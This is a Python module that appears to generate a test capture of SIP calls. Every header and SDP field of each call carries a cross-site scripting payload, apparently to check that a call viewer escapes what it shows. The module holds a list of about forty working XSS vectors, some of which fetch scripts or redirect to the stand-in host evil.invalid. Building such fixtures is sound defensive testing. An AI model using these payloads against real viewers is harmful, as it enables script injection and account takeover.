"""A capture of calls whose SIP and SDP fields are attacks on whoever shows them, made byte by byte: no other program of ours writes such
messages. Each call has its own payload in every one of FIELDS."""
import struct

# What runs marks the window, opens a dialog, or asks another place for something; {mark} says which field it was.
RUN = "window.hit='{mark}'"
PAYLOADS = (
    "<script>" + RUN + "</script>",
    "</script><script>" + RUN + "</script>",
    "<ScRiPt>" + RUN + "</sCrIpT>",
    "<script src=//evil.invalid/{mark}.js></script>",
    "<img src=x onerror=" + RUN + ">",
    "<img/src=x/onerror=" + RUN + ">",
    "<img src=//evil.invalid/{mark}.png>",
    "\"><img src=x onerror=" + RUN + ">",
    "'><img src=x onerror=" + RUN + ">",
    "`><img src=x onerror=" + RUN + ">",
    "<svg onload=" + RUN + ">",
    "<svg/onload=" + RUN + "//",
    "<svg><script>" + RUN + "</script></svg>",
    "<svg><animate onbegin=" + RUN + " attributeName=x dur=1s>",
    "<body onload=" + RUN + ">",
    "<iframe src=javascript:" + RUN + ">",
    "<iframe srcdoc='<script>parent." + RUN + "</script>'></iframe>",
    "<object data=javascript:" + RUN + "></object>",
    "<embed src=javascript:" + RUN + ">",
    "<a href=javascript:" + RUN + " autofocus tabindex=1>x</a>",
    "<a href=\"data:text/html,<script>" + RUN + "</script>\">x</a>",
    "<input autofocus onfocus=" + RUN + ">",
    "<details open ontoggle=" + RUN + ">",
    "<video><source onerror=" + RUN + "></video>",
    "<audio src=x onerror=" + RUN + ">",
    "<marquee onstart=" + RUN + ">",
    "<style>@import '//evil.invalid/{mark}.css';</style>",
    "<link rel=stylesheet href=//evil.invalid/{mark}.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.invalid/{mark}\">",
    "<base href=//evil.invalid/{mark}/>",
    "<form action=//evil.invalid/{mark}><button autofocus>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=" + RUN + "></style></mglyph></table></mtext></math>",
    "<template><script>" + RUN + "</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=" + RUN + ">\">",
    "<!--><img src=x onerror=" + RUN + ">-->",
    "<![CDATA[><script>" + RUN + "</script>]]>",
    "{{{{constructor.constructor(\"" + RUN + "\")()}}}}",
    "${{" + RUN + "}}",
    "javascript:" + RUN + "//",
    "\" autofocus onfocus=" + RUN + " x=\"",
)

FIELDS = ("from_name", "from_user", "to_name", "to_user", "request_uri", "contact", "via", "call_id", "user_agent", "server", "subject",
          "content_type", "reason", "asserted_name", "organization", "reason_phrase", "warning", "sdp_session", "sdp_label", "codec")


def payload(index, field):
    return PAYLOADS[index].replace("{{", "\0").replace("}}", "\1").replace("{mark}", f"{field}-{index}").replace("\0", "{").replace("\1", "}")


def quoted(text):
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def token(text):
    """Where a blank would end the field. A browser takes a slash for one."""
    return text.replace(" ", "/")


def uri_user(index, field):
    """As it is, or percent-encoded: some show what they decoded."""
    text = payload(index, field)
    if index % 2:
        return "".join(f"%{byte:02X}" if not chr(byte).isalnum() else chr(byte) for byte in text.encode())
    return token(text).replace("<", "%3C").replace(">", "%3E").replace('"', "%22")


class Packets:
    """An Ethernet capture in the format of 1998."""

    def __init__(self):
        self.bytes = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)

    def udp(self, at, source, destination, content):
        (source_ip, source_port), (destination_ip, destination_port) = source, destination
        udp = struct.pack(">HHHH", source_port, destination_port, 8 + len(content), 0) + content
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, bytes(map(int, source_ip.split("."))),
                           bytes(map(int, destination_ip.split("."))))
        total = sum(struct.unpack(">10H", head))
        total = (total & 0xFFFF) + (total >> 16)
        head = head[:10] + struct.pack(">H", ~(total + (total >> 16)) & 0xFFFF) + head[12:]
        frame = b"\x02\0\0\0\0\x02\x02\0\0\0\0\x01\x08\0" + head + udp
        self.bytes += struct.pack("<IIII", int(at), int(at % 1 * 1e6), len(frame), len(frame)) + frame


class Call:
    """INVITE, 200, ACK, INFO, BYE, 200, with a second of sound both ways. `field(name)` gives the text of each field."""

    ALICE, BOB = ("192.0.2.10", 5060), ("198.51.100.20", 5060)

    def __init__(self, number, at, fields):
        self.number, self.at, self.fields = number, at, fields
        self.media = ("192.0.2.10", 20000 + 4 * number), ("198.51.100.20", 20000 + 4 * number)

    def sdp(self, side):
        address, port = self.media[side]
        return "\r\n".join((
            "v=0", f"o={self.fields['origin']} 1 1 IN IP4 {address}", f"s={self.fields['sdp_session']}", f"i={self.fields['sdp_label']}",
            f"c=IN IP4 {address}", "t=0 0", f"m=audio {port} RTP/AVP 0 96", "a=rtpmap:0 PCMU/8000",
            f"a=rtpmap:96 {self.fields['codec']}/8000", f"a=label:{self.fields['sdp_label']}", ""))

    def message(self, start, request, extra, body, content_type):
        f = self.fields
        lines = [start, f"Via: SIP/2.0/UDP 192.0.2.10;branch=z9hG4bK{self.number}{request};received={f['via']}",
                 f"From: {f['from_name']} <sip:{f['from_user']}@192.0.2.10>;tag=a{self.number}",
                 f"To: {f['to_name']} <sip:{f['to_user']}@198.51.100.20>{'' if start.startswith('INVITE') else f';tag=b{self.number}'}",
                 f"Call-ID: {f['call_id']}", f"CSeq: {request}", f"Contact: <sip:{f['contact']}@192.0.2.10>", "Max-Forwards: 70", *extra]
        if body:
            lines.append(f"Content-Type: {content_type}")
        lines += [f"Content-Length: {len(body.encode())}", "", body]
        return "\r\n".join(lines).encode()

    def write(self, packets):
        f, at = self.fields, self.at
        target = f"sip:{f['request_uri']}@198.51.100.20"
        common = [f"User-Agent: {f['user_agent']}", f"Subject: {f['subject']}", f"Organization: {f['organization']}",
                  f"P-Asserted-Identity: {f['asserted_name']} <sip:{f['from_user']}@192.0.2.10>"]
        answer = [f"Server: {f['server']}", f"Warning: 399 198.51.100.20 {f['warning']}"]
        exchange = (
            (0.0, 0, self.message(f"INVITE {target} SIP/2.0", "1 INVITE", common, self.sdp(0), "application/sdp")),
            (0.1, 1, self.message("SIP/2.0 180 Ringing", "1 INVITE", answer, "", "")),
            (0.2, 1, self.message(f"SIP/2.0 200 {f['reason_phrase']}", "1 INVITE", answer, self.sdp(1), "application/sdp")),
            (0.3, 0, self.message(f"ACK {target} SIP/2.0", "1 ACK", [], "", "")),
            (0.8, 0, self.message(f"INFO {target} SIP/2.0", "2 INFO", common, f["body"], f["content_type"])),
            (1.4, 0, self.message(f"BYE {target} SIP/2.0", "3 BYE", [f"Reason: SIP;cause=200;text={f['reason']}"], "", "")),
            (1.5, 1, self.message(f"SIP/2.0 200 {f['reason_phrase']}", "3 BYE", answer, "", "")))
        events = [(when, self.ALICE if side == 0 else self.BOB, self.BOB if side == 0 else self.ALICE, content)
                  for when, side, content in exchange]
        for side in (0, 1):
            for n in range(50):
                # One voice that everybody understands, and one in the codec that has the attack for a name.
                rtp = struct.pack(">BBHII", 0x80, (0, 96)[side], n, n * 160, self.number * 2 + side + 1) + bytes([0xFF if n % 2 else 0x7F] * 160)
                events.append((0.35 + n * 0.02, self.media[side], self.media[1 - side], rtp))
        for when, source, destination, content in sorted(events, key=lambda event: event[0]):
            packets.udp(at + when, source, destination, content)


def attack_fields(index):
    """What each header of call `index` says."""
    text = {field: payload(index, field) for field in FIELDS}
    for field in ("from_name", "to_name", "asserted_name", "warning", "reason"):
        text[field] = quoted(text[field])
    for field in ("from_user", "to_user", "request_uri", "contact"):
        text[field] = uri_user(index, field)
    for field in ("via", "call_id", "codec", "content_type"):
        text[field] = token(text[field])
    text["content_type"] = "text/" + text["content_type"]
    text.update(origin="-", body="body")
    return text


def plain_fields(number, **changed):
    """An ordinary call, but for what is changed."""
    text = {"from_name": '"Alice"', "from_user": f"49301{number:05d}", "to_name": '"Bob"', "to_user": f"4100{number}", "request_uri": f"4100{number}",
            "contact": "alice", "via": "192.0.2.10", "call_id": f"plain-{number}@192.0.2.10", "user_agent": "Phone 1.0", "server": "Phone 2.0",
            "subject": "a call", "content_type": "text/plain", "body": "body", "reason": '"bye"', "asserted_name": '"Alice"', "organization": "Example",
            "reason_phrase": "OK", "warning": '"none"', "sdp_session": "-", "sdp_label": "1", "codec": "speex", "origin": "-"}
    return {**text, **changed}


def capture(calls, began=1_772_442_000.0):
    """The bytes of a capture with a call for each of these fields."""
    packets = Packets()
    for number, fields in enumerate(calls):
        Call(number, began + 3 * number, fields).write(packets)
    return packets.bytes


def attacks():
    return capture([attack_fields(index) for index in range(len(PAYLOADS))])
